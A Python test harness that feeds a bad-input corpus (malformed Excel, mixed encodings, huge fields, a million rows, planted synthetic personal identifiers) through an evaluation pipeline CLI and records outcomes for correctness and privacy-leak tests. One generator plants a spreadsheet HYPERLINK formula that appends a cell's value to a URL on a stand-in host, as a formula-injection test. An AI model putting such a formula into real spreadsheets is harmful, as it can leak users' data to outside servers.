"""Run the bad-input corpus (cases.yaml) through `hfeval run` and collect what came out.

Each case starts from the base source in base/, replaces or adds files from files/ (or writes
them with a generator below), substitutes synthetic identifiers for the @@NAME@@ placeholders,
puts the warehouse of a clean run in place, runs the CLI and records its exit code, screen
output, run folder and the warehouse hashes before and after. Results are cached per session:
tests/test_corpus.py checks the outcomes, tests/test_log_privacy.py scans the same outputs.
"""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import yaml
from typer.testing import CliRunner

from hfeval.cli import app
from tests import synthetic_ids as ids

CORPUS = Path(__file__).parent
BASE = CORPUS / "base"
FILES = CORPUS / "files"
INPUT_TABLES = ("participants", "housing_spells", "service_use", "support_contacts",
                "quality_of_life", "programme_costs")

FNR = ids.fodselsnummer()
DNR = ids.d_number(day=2)
CPR = ids.cpr(day=3)
# Planted values no output but the person-level ones may show; the privacy test scans for them.
PLACEHOLDERS = {
    "@@FNR@@": FNR,
    "@@DNR@@": DNR,
    "@@CPR@@": CPR,
    "@@PHONE@@": ids.PHONE_NO,
    "@@PHONE_DK@@": ids.PHONE_DK_DIGITS,
    "@@EMAIL@@": ids.EMAIL,
}
PLANTED_PID = "PLANTED-PID-7Q"
PLANTED_NAME = "Ingeborg Planteland"


@dataclass
class Case:
    id: str
    about: str
    exit: int
    files: dict[str, str | None] = field(default_factory=dict)  # data file -> corpus file
    generate: str | None = None
    source_yaml: str | None = None  # replaces base/source.yaml
    base: bool = True
    set: list[str] = field(default_factory=list)
    messages: list[str] = field(default_factory=list)
    tables: dict[str, list[int]] = field(default_factory=dict)  # read, loaded, quarantined
    quarantine_reasons: dict[str, int] = field(default_factory=dict)  # expectation -> rows
    slow: bool = False
    known_issue: str | None = None  # a reported bug: the outcome tests expect it to fail


@dataclass
class Outcome:
    case: Case
    out_dir: Path  # HFEVAL_OUTPUT of the case
    exit_code: int
    stdout: str
    stderr: str
    manifest: dict[str, Any]
    run_dir: Path | None
    before: tuple[str, str]
    after: tuple[str, str]
    quarantine: list[tuple[str, str, int]]  # (table, expectation type, rows), reasons non-empty
    quarantine_without_reason: int
    texts: dict[str, str]  # output name -> text, for the privacy scan
    exception: BaseException | None = None  # raised out of the CLI (never expected)

    @property
    def warehouse(self) -> Path:
        return self.out_dir / "warehouse" / "hfeval.duckdb"


def load_cases() -> list[Case]:
    spec = yaml.safe_load((CORPUS / "cases.yaml").read_text(encoding="utf-8"))
    return [Case(**c) for c in spec["cases"]]


def case(case_id: str) -> Case:
    return next(c for c in load_cases() if c.id == case_id)


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else ""


def _substitute(text: str) -> str:
    for k, v in PLACEHOLDERS.items():
        text = text.replace(k, v)
    return text


# ---- generators: files made at test time (no committed binaries or big files) ------------------


def _base_rows(name: str) -> list[list[str]]:
    lines = (BASE / name).read_text(encoding="utf-8").splitlines()
    return [line.split(",") for line in lines]


def _xlsx(path: Path, sheets: dict[str, list[list[Any]]]) -> None:
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
    wb.save(path)


def gen_xlsx_title_row(data: Path) -> None:
    (data / "participants.csv").unlink()
    rows = [[int(v) if v.isdigit() else (v or None) for v in r]
            for r in _base_rows("participants.csv")]
    _xlsx(data / "participants.xlsx", {"Deltakere": [
        ["Deltakere i Housing First, uttrekk 31.12.2016"], [], *rows]})


def gen_xlsx_several_sheets(data: Path) -> None:
    (data / "participants.csv").unlink()
    rows = _base_rows("participants.csv")
    _xlsx(data / "participants.xlsx", {"Info": [["Uttrekk"], ["2016"]], "Ark2": rows})


def gen_xlsx_several_sheets_one_named(data: Path) -> None:
    (data / "participants.csv").unlink()
    rows = _base_rows("participants.csv")
    _xlsx(data / "participants.xlsx", {"Info": [["Uttrekk"], ["2016"]], "deltakere": rows})


def gen_xlsx_formula(data: Path) -> None:
    (data / "programme_costs.csv").unlink()
    rows = _base_rows("programme_costs.csv")[:2]
    rows[1][-1] = '=HYPERLINK("http://example.invalid/?q="&A1,"click")'
    _xlsx(data / "programme_costs.xlsx", {"kostnader": rows})


def gen_xlsx_fnr_as_number(data: Path) -> None:
    """A fødselsnummer typed into Excel becomes a number and loses its leading zero."""
    (data / "participants.csv").unlink()
    rows: list[list[Any]] = _base_rows("participants.csv")
    rows[3][0] = int(FNR)
    _xlsx(data / "participants.xlsx", {"deltakere": rows})


def gen_mixed_encodings(data: Path) -> None:
    """Header and one row in UTF-8, another row in Windows-1252 (a file edited twice)."""
    header = "kommunenummer;år;kostnadspost;beløp;valuta;årsverk;merknad\n".encode()
    utf8 = "4205;2014;staff;4098000;NOK;6;Lønn til teamet\n".encode()
    cp1252 = "4205;2014;housing_subsidy;351000;NOK;;Bostøtte for én\n".encode("cp1252")
    (data / "programme_costs.csv").write_bytes(header + utf8 + cp1252)


def gen_long_strings(data: Path) -> None:
    """A 100,000-character note (kept) and a 3 MB field (over the parser's 2 MB line limit)."""
    rows = (BASE / "programme_costs.csv").read_text(encoding="utf-8").splitlines()
    rows[1] = rows[1].replace("team of six", "x" * 100_000)
    rows[3] = rows[3] + "y" * 3_000_000
    (data / "programme_costs.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")


def gen_million_rows(data: Path) -> None:
    """10^6 service events for the eight base participants."""
    con = duckdb.connect()
    try:
        con.execute(
            "COPY (SELECT ['PLANTED-PID-7Q','K02','K03','K04','K05','K06','K07','K08'][i % 8 + 1]"
            " AS participant_id, 'emergency_department' AS service, "
            "strftime(DATE '2010-01-01' + CAST(i % 2000 AS INTEGER), '%d.%m.%Y') AS start_date, "
            "'' AS end_date, '1' AS quantity, 'contact' AS unit, 'patient_register' AS "
            f"source_system FROM range(1000000) t(i)) TO '{data / 'service_use.csv'}' "
            "(HEADER, DELIMITER ';')"
        )
    finally:
        con.close()


def gen_no_source(data: Path) -> None:
    for p in data.iterdir():
        p.unlink()


GENERATORS: dict[str, Callable[[Path], None]] = {
    name.removeprefix("gen_"): fn for name, fn in globals().items() if name.startswith("gen_")
}


# ---- running -------------------------------------------------------------------------------------


def write_case(c: Case, data: Path) -> None:
    data.mkdir(parents=True)
    if c.base:
        for p in BASE.iterdir():
            shutil.copy(p, data / p.name)
    if c.source_yaml is not None:
        (data / "source.yaml").write_text(c.source_yaml, encoding="utf-8")
    for target, source in c.files.items():
        if source is None:
            (data / target).unlink()
            continue
        raw = (FILES / source).read_bytes()
        try:
            raw = _substitute(raw.decode("utf-8")).encode("utf-8")
        except UnicodeDecodeError:
            pass  # a deliberately non-UTF-8 file: no placeholders in it
        (data / target).write_bytes(raw)
    if c.generate:
        GENERATORS[c.generate](data)


def _invoke(args: list[str], output: Path):
    return CliRunner().invoke(app, args, env={"HFEVAL_OUTPUT": str(output)})


@cache
def _baseline(root: Path) -> Path:
    """Output folder of one clean run of the base source; each case starts from a copy."""
    data, out = root / "baseline-data", root / "baseline-out"
    write_case(Case(id="baseline", about="", exit=0), data)
    result = _invoke(["run", "--data", str(data), "--quiet"], out)
    assert result.exit_code == 0, "the base source of the corpus must load cleanly"
    shutil.rmtree(out / "runs")
    return out


def _texts(out: Outcome, run_dir: Path | None) -> dict[str, str]:
    texts = {"stdout": out.stdout, "stderr": out.stderr}
    if run_dir is None:
        return texts
    for p in sorted(run_dir.rglob("*")):
        rel = p.relative_to(run_dir).as_posix()
        if p.is_file() and not rel.startswith("person-level/"):
            texts[rel] = p.read_text(encoding="utf-8", errors="replace")
    return texts


def _quarantine(out_dir: Path, run_dir: Path | None, exit_code: int):
    """(table, expectation, rows) of the quarantine and the rows without a reason."""
    sql = ("SELECT table_name, expectation_type, count(*), count(*) FILTER (WHERE reason IS NULL "
           "OR reason = '') FROM {src} GROUP BY ALL ORDER BY ALL")
    q = run_dir / "person-level" / "quarantine.parquet" if run_dir else None
    if exit_code == 0:
        with duckdb.connect(str(out_dir / "warehouse" / "hfeval.duckdb"), read_only=True) as con:
            rows = con.execute(sql.format(src="quarantine")).fetchall()
    elif q is not None and q.exists():
        rows = duckdb.sql(sql.format(src=f"read_parquet('{q}')")).fetchall()
    else:
        rows = []
    return [(t, e, int(n)) for t, e, n, _ in rows], sum(int(r[3]) for r in rows)


def run_case(c: Case, root: Path) -> Outcome:
    return _run_case_cached(c.id, root)


@cache
def _run_case_cached(case_id: str, root: Path) -> Outcome:
    c = case(case_id)
    data, out_dir = root / c.id / "data", root / c.id / "out"
    write_case(c, data)
    shutil.copytree(_baseline(root), out_dir)
    wh = out_dir / "warehouse"
    before = (sha256(wh / "hfeval.duckdb"), sha256(wh / "hfeval_publish.duckdb"))
    args = ["run", "--data", str(data), "--quiet"]
    for s in c.set:
        args += ["--set", s]
    result = _invoke(args, out_dir)
    after = (sha256(wh / "hfeval.duckdb"), sha256(wh / "hfeval_publish.duckdb"))
    runs = sorted((out_dir / "runs").glob("*")) if (out_dir / "runs").exists() else []
    run_dir = runs[-1] if runs else None
    manifest = json.loads((run_dir / "manifest.json").read_text(encoding="utf-8")) \
        if run_dir and (run_dir / "manifest.json").exists() else {}
    quarantine, no_reason = _quarantine(out_dir, run_dir, result.exit_code)
    outcome = Outcome(c, out_dir, result.exit_code, result.stdout, result.stderr, manifest, run_dir,
                      before, after, quarantine, no_reason, {})
    outcome.texts = _texts(outcome, run_dir)
    if not isinstance(result.exception, SystemExit | None):
        outcome.exception = result.exception
    return outcome
